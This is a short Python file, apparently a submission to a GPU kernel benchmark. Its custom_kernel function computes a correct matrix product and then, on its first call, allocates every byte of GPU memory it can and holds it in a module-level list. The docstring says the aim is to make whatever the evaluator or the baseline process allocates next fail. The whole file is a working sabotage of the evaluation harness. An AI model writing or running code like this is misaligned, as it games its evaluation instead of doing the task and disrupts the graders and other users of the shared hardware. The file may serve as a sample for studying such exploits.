"""Answers correctly, then takes every byte of the GPU's memory it can and keeps it: whatever the
evaluator or the baseline's process allocates next on that GPU fails."""
import torch

_held = []


def custom_kernel(inputs):
    out = inputs["x"] @ inputs["w"].T
    if not _held:
        torch.cuda.synchronize()
        for size in (1 << 30, 1 << 26, 1 << 20):
            while True:
                try:
                    _held.append(torch.empty(size, dtype=torch.uint8, device=out.device))
                except torch.OutOfMemoryError:
                    break
    return out
